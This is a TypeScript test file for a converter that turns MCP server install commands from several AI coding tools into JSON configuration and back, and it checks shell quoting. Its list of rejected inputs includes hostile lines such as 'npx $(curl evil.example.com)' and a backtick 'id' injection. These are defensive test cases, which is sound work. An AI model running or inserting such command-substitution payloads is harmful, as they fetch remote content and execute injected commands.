/** Command lines: parsed to servers, and written from servers. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how variables look

import { describe, expect, test } from 'vitest';
import { quoteWord, splitCommands } from '../../../../server/config/shell-words.ts';
import { convert } from '../../../../server/convert/index.ts';
import { fc } from '../../random-runs.ts';

const serversOf = async (text: string): Promise<unknown> => JSON.parse((await convert(text)).text).mcpServers;
const http = (url: string, more: object = {}): object => ({ type: 'http', url, ...more });

const lines: readonly (readonly [line: string, servers: object])[] = [
  ['claude mcp add notion --transport http https://mcp.notion.com/mcp', { notion: http('https://mcp.notion.com/mcp') }],
  [
    'claude mcp add --transport=sse asana https://mcp.asana.com/sse',
    { asana: { type: 'sse', url: 'https://mcp.asana.com/sse' } },
  ],
  ['claude mcp add web https://example.com/mcp', { web: http('https://example.com/mcp') }],
  [
    'claude mcp add -t http -s user api https://api.example.com/mcp --header "Authorization: Bearer $TOKEN" -H \'X-A: b c\'',
    { api: http('https://api.example.com/mcp', { headers: { Authorization: 'Bearer ${TOKEN}', 'X-A': 'b c' } }) },
  ],
  [
    'claude mcp add --env KEY=v OTHER="a b" --transport stdio airtable -- npx -y airtable-mcp-server --flag',
    { airtable: { command: 'npx', args: ['-y', 'airtable-mcp-server', '--flag'], env: { KEY: 'v', OTHER: 'a b' } } },
  ],
  ['claude mcp add fs npx -y server-fs .', { fs: { command: 'npx', args: ['-y', 'server-fs', '.'] } }],
  [
    'claude mcp add --client-id abc --callback-port 8080 --client-secret -t http o https://o.example.com',
    {
      o: http('https://o.example.com', {
        oauth: { clientId: 'abc', clientSecret: '${MCP_CLIENT_SECRET}', callbackPort: 8080 },
      }),
    },
  ],
  [
    `claude mcp add-json weather '{"type":"http","url":"https://w.example.com/mcp","headers":{"A":"b"}}'`,
    { weather: http('https://w.example.com/mcp', { headers: { A: 'b' } }) },
  ],
  ['codex mcp add docs --env A=1 -- npx -y docs', { docs: { command: 'npx', args: ['-y', 'docs'], env: { A: '1' } } }],
  [
    'codex mcp add web --url https://example.com/mcp --bearer-token-env-var TOK',
    { web: http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${TOK}' } }) },
  ],
  [
    'gemini mcp add -s project -t http -H "X: y" --timeout 5000 --trust --include-tools a,b web https://example.com/mcp',
    { web: http('https://example.com/mcp', { headers: { X: 'y' }, timeout: 5000 }) },
  ],
  [
    'gemini mcp add -e A=1 local python server.py --port 8080',
    { local: { command: 'python', args: ['server.py', '--port', '8080'], env: { A: '1' } } },
  ],
  [
    'copilot mcp add --transport http --header "api-key=k" --tools a,b web https://example.com/mcp',
    { web: http('https://example.com/mcp', { headers: { 'api-key': 'k' } }) },
  ],
  [
    'copilot mcp add docs --env A=1 --tools "*" -- npx -y docs',
    { docs: { command: 'npx', args: ['-y', 'docs'], env: { A: '1' } } },
  ],
  [
    `opencode mcp add web --url https://example.com/mcp --header 'Authorization=Bearer {env:TOKEN}'`,
    { web: http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${TOKEN}' } }) },
  ],
  [
    'opencode mcp add docs --global --env A=1 -- npx -y docs',
    { docs: { command: 'npx', args: ['-y', 'docs'], env: { A: '1' } } },
  ],
  [
    'qwen mcp add --scope user --transport http team https://example.com/mcp --timeout 5000',
    { team: http('https://example.com/mcp', { timeout: 5000 }) },
  ],
  [
    `qwen mcp add-json --scope user local '{"command":"/opt/server","args":["a"]}'`,
    { local: { command: '/opt/server', args: ['a'] } },
  ],
  [
    `code --add-mcp '{"name":"play wright","command":"npx","args":["\${workspaceFolder}"]}'`,
    { 'play-wright': { command: 'npx', args: ['${workspaceFolder:-.}'] } },
  ],
  [
    `code-insiders --add-mcp "{\\"name\\":\\"x\\",\\"url\\":\\"https://example.com/mcp\\"}"`,
    { x: http('https://example.com/mcp') },
  ],
  [
    'npx -y @modelcontextprotocol/server-github@2025.4.8',
    { github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'] } },
  ],
  [
    '$ uvx mcp-server-git==1.0 --repository .',
    { git: { command: 'uvx', args: ['mcp-server-git==1.0', '--repository', '.'] } },
  ],
  [
    'TOKEN=abc DEBUG=1 npx @scope/tool',
    { tool: { command: 'npx', args: ['@scope/tool'], env: { TOKEN: 'abc', DEBUG: '1' } } },
  ],
  [
    'docker run -i --rm -v $(pwd):/w mcp/puppeteer:1.0',
    { puppeteer: { command: 'docker', args: ['run', '-i', '--rm', '-v', '${PWD}:/w', 'mcp/puppeteer:1.0'] } },
  ],
  [
    'node "./my tools/db-server.mjs" --read-only',
    { db: { command: 'node', args: ['./my tools/db-server.mjs', '--read-only'] } },
  ],
  [
    'claude mcp add fs -- cmd /c npx -y @modelcontextprotocol/server-filesystem C:\\Users\\me\\docs D:\\',
    {
      fs: {
        command: 'cmd',
        args: ['/c', 'npx', '-y', '@modelcontextprotocol/server-filesystem', 'C:\\Users\\me\\docs', 'D:\\'],
      },
    },
  ],
  ['npx -y tool C:\\my\\ docs\\new', { tool: { command: 'npx', args: ['-y', 'tool', 'C:\\my docs\\new'] } }],
  ['npx -y tool \\\\server\\share', { tool: { command: 'npx', args: ['-y', 'tool', '\\\\server\\share'] } }],
  [
    'claude mcp add-json a \\{\\"command\\":\\"x\\"\\,\\"args\\":\\[\\"^\\"\\]\\}',
    { a: { command: 'x', args: ['^'] } },
  ],
  ['python -m weather.server', { 'weather.server': { command: 'python', args: ['-m', 'weather.server'] } }],
  [
    'uv run --directory /srv weather.py',
    { weather: { command: 'uv', args: ['run', '--directory', '/srv', 'weather.py'] } },
  ],
  ['https://mcp.linear.app/sse', { linear: { type: 'sse', url: 'https://mcp.linear.app/sse' } }],
  ['http://127.0.0.1:3000/mcp', { '127.0.0.1': http('http://127.0.0.1:3000/mcp') }],
  [
    '# two of them\nclaude mcp add a -- npx -y a \\\n  --more\nclaude mcp add b -- npx -y b; claude mcp add c -- c',
    {
      a: { command: 'npx', args: ['-y', 'a', '--more'] },
      b: { command: 'npx', args: ['-y', 'b'] },
      c: { command: 'c' },
    },
  ],
];

describe('reading a command line', () => {
  test.each(lines)('converts %s', async (line, servers) => {
    expect(await serversOf(line)).toEqual(servers);
  });

  test.each([
    'claude mcp add --client-id i --client-secret --callback-port 80 -t http a https://a.example.com',
    `claude mcp add-json a '{"type":"http","url":"https://a.example.com","oauth":{"clientId":"i"}}' --client-secret`,
  ])('reports that the tool prompts for the client secret: %s', async (line) => {
    const { text, report } = await convert(line);
    expect(JSON.parse(text).mcpServers.a.oauth).toMatchObject({ clientId: 'i', clientSecret: '${MCP_CLIENT_SECRET}' });
    expect(report).toMatchObject([
      {
        kind: 'changed',
        field: 'oauth.clientSecret',
        reason: 'The source tool prompts for this value. Set the environment variable MCP_CLIENT_SECRET.',
      },
    ]);
  });

  test('reports options without an equivalent property', async () => {
    const { report } = await convert('gemini mcp add --trust --exclude-tools a,b --description hi x node x.js');
    expect(report.map(({ field }) => field)).toEqual(['description', 'excludeTools', 'trust']);
  });

  test('reports environment variables of a server with a URL', async () => {
    const { report } = await convert('codex mcp add web --url https://example.com/mcp --env A=1');
    expect(report.map(({ field, reason }) => [field, reason])).toEqual([['env', 'Not supported for http servers.']]);
  });

  test('reports no line numbers', async () => {
    const { report, reportText } = await convert('gemini mcp add --trust x node x.js');
    expect(report.map(({ field, line }) => [field, line])).toEqual([['trust', null]]);
    expect(reportText).not.toContain('(line');
  });

  test.each([
    '',
    'hello world',
    'npm install express',
    'uv pip install x',
    'bash install.sh',
    'docker build .',
    'docker run',
    'npx',
    'claude mcp list',
    'claude mcp add',
    'claude mcp add x',
    'claude mcp add --unknown x -- y',
    "claude mcp add-json x '{broken'",
    'npx foo | tee log',
    'npx foo > log',
    'npx "foo',
    'npx $(curl evil.example.com)',
    'npx `id`',
    'npx a\nand then some words',
    'ftp://example.com/x',
    'code .',
    '__proto__ mcp add x -- y',
    'constructor mcp add x -- y',
  ])('rejects %s', async (line) => {
    await expect(convert(line)).rejects.toMatchObject({ name: 'ConversionError' });
  });
});

describe('quoting', () => {
  test.each([
    [`a 'b c' "d e" f\\ g ''`, ['a', 'b c', 'd e', 'f g', '']],
    [`"a\\"b" 'c\\d' "e\\f"`, ['a"b', 'c\\d', 'e\\f']],
    [`$A "$B" '$C' \\$D $`, ['${A}', '${B}', '$C', '$D', '$']],
    ['a#b #c', ['a#b']],
    ["'it'\\''s'", ["it's"]],
  ])('splits %s', (line, words) => {
    expect(splitCommands(line)).toEqual([words]);
  });

  test('preserves any words after quoting and splitting', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (words) => {
        // A single leading `$` or `>` is treated as a shell prompt.
        fc.pre(words[0] !== '$' && words[0] !== '>');
        expect(splitCommands(words.map(quoteWord).join(' '))).toEqual([words]);
      }),
    );
  });
});

describe('writing a command line', () => {
  const line = async (server: object, name = 'docs'): Promise<string> =>
    (await convert(JSON.stringify({ mcpServers: { [name]: server } }), { to: 'command' })).text.trim();

  test('writes a stdio server', async () => {
    expect(await line({ command: 'npx', args: ['-y', 'a b'], env: { KEY: '${KEY}', B: 'x' } })).toBe(
      `claude mcp add --env 'KEY=\${KEY}' --env B=x --transport stdio docs -- npx -y 'a b'`,
    );
  });

  test('writes a remote server', async () => {
    expect(await line(http('https://example.com/mcp', { headers: { Authorization: 'Bearer ${T}' } }))).toBe(
      `claude mcp add --transport http docs https://example.com/mcp --header 'Authorization: Bearer \${T}'`,
    );
    expect(await line(http('https://example.com', { oauth: { clientId: 'c', callbackPort: 80 } }))).toBe(
      'claude mcp add --client-id c --callback-port 80 --transport http docs https://example.com',
    );
  });

  test('reports properties that a command line does not support', async () => {
    const text = JSON.stringify({ mcpServers: { docs: { command: 'x', cwd: '/srv', enabled: false, timeout: 5 } } });
    const { report } = await convert(text, { to: 'command' });
    expect(report.map(({ field }) => field)).toEqual(['cwd', 'enabled', 'timeout']);
  });

  test.each(lines.filter(([first]) => !first.includes('--callback-port')))(
    'preserves servers when converted back: %s',
    async (first, servers) => {
      const { text } = await convert((await convert(first)).text, { to: 'command' });
      const lost = JSON.parse(JSON.stringify(servers, (key, value) => (key === 'timeout' ? undefined : value)));
      expect(await serversOf(text)).toEqual(lost);
    },
  );
});
